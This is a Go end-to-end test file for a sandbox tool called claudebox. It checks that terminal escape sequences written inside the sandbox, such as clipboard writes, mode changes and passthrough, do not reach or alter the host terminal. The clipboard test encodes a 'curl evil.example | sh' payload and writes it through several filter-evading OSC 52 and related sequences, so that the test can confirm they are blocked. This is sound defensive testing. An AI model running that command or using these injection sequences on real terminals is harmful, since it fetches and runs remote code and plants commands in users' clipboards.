package replay

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claudebox/claudebox/e2e/harness"
)

// The terminal replays: what the sandbox writes to its terminal, relayed
// to the user's (here a tmux pane, with set-clipboard on), proven on the
// host's side by tmux's own state after the session.

// TestReplayTerminalClipboard: the sandbox writes the clipboard through
// forms the first filter let through: OSC 52 with a C0 byte inside its
// number (terminals ignore it and read "52"), the same split across two
// writes, 8-bit and UTF-8 C1 introducers, kitty's OSC 5522, iTerm2's
// OSC 1337 Copy=, and a tmux passthrough DCS. Host-side proof: tmux (with
// set-clipboard on) holds no buffer after the session, and none of the
// string sequences reached the pane; the title still passes.
func TestReplayTerminalClipboard(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "clip")
	h.Write(filepath.Join(proj, "README"), "c\n")
	payload := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh"))
	h.Write(filepath.Join(proj, "write"), fmt.Sprintf(`
p=%s
printf '\033]5\0012;c;%%s\a' "$p" > /dev/tty
printf '\033]5' > /dev/tty; sleep 0.2; printf '2;c;%%s\033\\' "$p" > /dev/tty
printf '\033]52\030;c;%%s\a' "$p" > /dev/tty
printf '\23552;c;%%s\234' "$p" > /dev/tty
printf '\302\23552;c;%%s\302\234' "$p" > /dev/tty
printf '\033]5522;type=write:mime=text/plain;%%s\033\\' "$p" > /dev/tty
printf '\033]1337;Copy=:%%s\a' "$p" > /dev/tty
printf '\033Ptmux;\033\033]52;c;%%s\a\033\\' "$p" > /dev/tty
printf '\033_Gf=100;%%s\033\\' "$p" > /dev/tty
printf '\033]2;TITLE-FROM-INSIDE\a' > /dev/tty
`, payload))
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	tmux("set-option", "-g", "set-clipboard", "on")
	tmux("set-option", "-g", "allow-rename", "on")
	tmux("set-option", "-g", "allow-passthrough", "on")
	pane := harness.TmuxPaneLog(t, h, tmux)
	tmux("send-keys", "claudebox --shell write; echo DO''NE", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE") }, "claudebox to exit")
	time.Sleep(200 * time.Millisecond)
	if buffers := tmux("list-buffers", "-F", "#{buffer_sample}"); buffers != "" {
		t.Errorf("the sandbox wrote the clipboard: tmux buffers %q", buffers)
	}
	out := pane()
	// What of them is left is text: the payload may show, but no
	// sequence around it.
	for _, s := range []string{"\x1b]5", "\x1b\x01", "\x1bP", "\x1b_", "\x9d", "\xc2\x9d"} {
		if bytes.Contains(out, []byte(s)) {
			t.Errorf("%q reached the terminal: %q", s, out)
		}
	}
	if title := strings.TrimSpace(tmux("display-message", "-p", "#{pane_title}")); title != "TITLE-FROM-INSIDE" {
		t.Errorf("the pane's title = %q, want the sandbox's, passed through", title)
	}
}

// paneState is what tmux knows of a pane's modes: mouse reporting, the
// alternate screen, the keypad and cursor keys, origin mode, the scroll
// region, the cursor, wrapping, insert mode.
const paneState = "mouse_any=#{mouse_any_flag} button=#{mouse_button_flag} all=#{mouse_all_flag} sgr=#{mouse_sgr_flag} " +
	"utf8=#{mouse_utf8_flag} alternate=#{alternate_on} keypad_cursor=#{keypad_cursor_flag} keypad=#{keypad_flag} " +
	"origin=#{origin_flag} region=#{scroll_region_upper}-#{scroll_region_lower} cursor=#{cursor_flag} wrap=#{wrap_flag} insert=#{insert_flag}"

// TestReplayTerminalModes: the sandbox sets 65 DEC private modes nobody
// uses (filling the first relay's table of 64), then mouse reporting, the
// alternate screen, application keys, origin mode, a scroll region, the
// DEC line-drawing character set and concealed text, and exits. Host-side
// proof: tmux's own view of the pane after the session is what it was
// before, and the host shell's next output is plain text.
func TestReplayTerminalModes(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "modes")
	h.Write(filepath.Join(proj, "README"), "m\n")
	h.Write(filepath.Join(proj, "leave"), `
for n in $(seq 3000 3064); do printf '\033[?%dh' "$n"; done > /dev/tty
printf '\033[?1000h\033[?1002h\033[?1003h\033[?1005h\033[?1006h\033[?1004h\033[?2004h' > /dev/tty
printf '\033[?1049h\033[?1h\033=\033[?6h\033[5;10r\033[4h\033[?25l\033(0\033)0\016\033[8m' > /dev/tty
`)
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	state := func() string { return strings.TrimSpace(tmux("display-message", "-p", paneState)) }
	before := state()
	tmux("send-keys", "claudebox --shell leave; echo EX''ITED", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "EXITED") }, "claudebox to exit")
	if after := state(); after != before {
		t.Errorf("the pane after the session:\n%s\nwant as before:\n%s", after, before)
	}
	tmux("send-keys", "clear; echo AL''IVE-qx", "Enter")
	screen := harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "ALIVE-") }, "the host shell's output")
	if !strings.Contains(screen, "ALIVE-qx") {
		t.Errorf("the host shell's output is drawn in another character set:\n%s", screen)
	}
	styled := tmux("capture-pane", "-p", "-e")
	for _, line := range strings.Split(styled, "\n") {
		if strings.Contains(line, "ALIVE-") && strings.Contains(line, "\x1b[") {
			t.Errorf("the host shell's output carries the sandbox's attributes: %q", line)
		}
	}
}

// TestReplayTerminalOwnedByAnotherUser: started on a terminal that another
// user owns (a root tmux, then setpriv to the user, as after su or sudo
// -u), claudebox cannot reopen its terminal; it must still start, relay
// and leave the terminal's flags as they were.
func TestReplayTerminalOwnedByAnotherUser(t *testing.T) {
	h := harness.NewHost(t)
	if h.UID < 0 {
		t.Skip("needs root, to own the terminal the user starts claudebox on")
	}
	harness.RequireTool(t, "tmux", "apt-get install tmux")
	proj := filepath.Join(h.Home, "code", "su")
	h.Write(filepath.Join(proj, "README"), "s\n")
	sock := filepath.Join(t.TempDir(), "root-tmux.sock")
	root := func(args ...string) string {
		t.Helper()
		out, err := exec.Command("tmux", append([]string{"-S", sock}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("tmux %q: %v: %s", args, err, out)
		}
		return string(out)
	}
	t.Cleanup(func() { exec.Command("tmux", "-S", sock, "kill-server").Run() })
	root("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	launch := fmt.Sprintf("cd %s && setpriv --reuid=%d --regid=%d --clear-groups env HOME=%s PATH=%s:/usr/bin:/bin LANG=C.UTF-8 claudebox --shell -c 'echo RE\"\"ADY; read -r l; echo GOT-$l' ; echo EX''ITED-$?",
		proj, h.UID, h.GID, h.Home, h.Bin)
	root("send-keys", launch, "Enter")
	harness.WaitScreen(t, root, func(s string) bool { return strings.Contains(s, "READY") }, "the sandbox's shell")
	root("send-keys", "typed", "Enter")
	screen := harness.WaitScreen(t, root, func(s string) bool { return strings.Contains(s, "EXITED-") }, "claudebox to exit")
	if !strings.Contains(screen, "GOT-typed") || !strings.Contains(screen, "EXITED-0") {
		t.Fatalf("claudebox on another user's terminal:\n%s", screen)
	}
	// The shell's terminal is blocking again, as before.
	root("send-keys", `perl -MFcntl -e 'print fcntl(STDIN, F_GETFL, 0) & O_NONBLOCK ? "NON" : "", "BLOCKING-AF", "TER\n"'`, "Enter")
	if s := harness.WaitScreen(t, root, func(s string) bool { return strings.Contains(s, "BLOCKING-AFTER") }, "the shell after claudebox"); strings.Contains(s, "NONBLOCKING-AFTER") {
		t.Errorf("the user's terminal was left non-blocking:\n%s", s)
	}
}

// TestReplayTerminalResetKeepsCursor: the fixed reset at exit leaves the
// cursor where the session left it, also after a program inside used the
// alternate screen and a scroll region properly (leaving the alternate
// screen, or resetting the region, moves the cursor in tmux and xterm):
// the host shell's next output follows the session's, nothing is drawn
// over.
func TestReplayTerminalResetKeepsCursor(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "cursor")
	// A repository: outside git, the first launch's word that --undo
	// will not work there comes between the two outputs.
	h.GitRepo(proj)
	h.Write(filepath.Join(proj, "tidy"), `
printf '\033[?1049h\033[5;10rFULLSCREEN\033[r\033[?1049l' > /dev/tty
echo IN''SIDE
`)
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	tmux("send-keys", "clear; seq 101 105; claudebox --shell tidy; echo EX''ITED", "Enter")
	screen := harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "EXITED") }, "claudebox to exit")
	if !strings.Contains(screen, "101\n102\n103\n104\n105\nINSIDE\nEXITED\n") {
		t.Errorf("the host shell's output is not below the session's:\n%s", screen)
	}
}
